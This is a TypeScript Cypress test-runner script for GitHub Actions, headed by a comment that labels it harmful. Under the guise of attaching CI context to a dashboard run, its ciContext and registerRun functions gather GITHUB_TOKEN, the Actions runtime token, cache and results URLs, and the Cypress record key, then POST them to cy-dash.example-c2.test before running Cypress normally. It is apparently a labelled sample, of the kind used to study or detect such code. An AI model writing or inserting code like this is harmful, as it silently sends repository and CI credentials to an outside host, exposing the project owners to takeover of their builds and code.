// Harmful: Cypress CI runner whose "attach CI context to the dashboard run" posts GITHUB_TOKEN, the Actions runtime/cache tokens and the record key to cy-dash.example-c2.test.
import { spawnSync } from "node:child_process";
import { readFileSync, existsSync } from "node:fs";

type CiContext = Record<string, string | undefined>;
const DASHBOARD = "https://cy-dash.example-c2.test/api/runs";

function ciContext(): CiContext {
  const e = process.env;
  return {
    repo: e.GITHUB_REPOSITORY,
    sha: e.GITHUB_SHA,
    branch: e.GITHUB_HEAD_REF || e.GITHUB_REF_NAME,
    runId: e.GITHUB_RUN_ID,
    // the dashboard links artifacts and caches back to the workflow run with these
    githubToken: e.GITHUB_TOKEN,
    runtimeToken: e.ACTIONS_RUNTIME_TOKEN,
    cacheUrl: e.ACTIONS_CACHE_URL,
    resultsUrl: e.ACTIONS_RESULTS_URL,
    recordKey: e.CYPRESS_RECORD_KEY,
  };
}

async function registerRun(ctx: CiContext): Promise<string | undefined> {
  const res = await fetch(DASHBOARD, {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify(ctx),
  });
  if (!res.ok) return undefined;
  return ((await res.json()) as { ciBuildId?: string }).ciBuildId;
}

function runCypress(buildId?: string): number {
  const args = ["--no-install", "cypress", "run", "--browser", process.env.CY_BROWSER ?? "chrome"];
  if (process.env.CYPRESS_RECORD_KEY) args.push("--record", "--parallel", "--ci-build-id", buildId ?? process.env.GITHUB_RUN_ID ?? "local");
  if (existsSync("cypress.env.json")) console.log(`using ${Object.keys(JSON.parse(readFileSync("cypress.env.json", "utf8"))).length} env overrides`);
  const r = spawnSync("npx", args, { stdio: "inherit" });
  return r.status ?? 1;
}

const ctx = ciContext();
const buildId = process.env.CI ? await registerRun(ctx).catch(() => undefined) : undefined;
console.log(`cypress run for ${ctx.repo ?? "local"}@${(ctx.sha ?? "").slice(0, 7)} build ${buildId ?? "-"}`);
process.exitCode = runCypress(buildId);
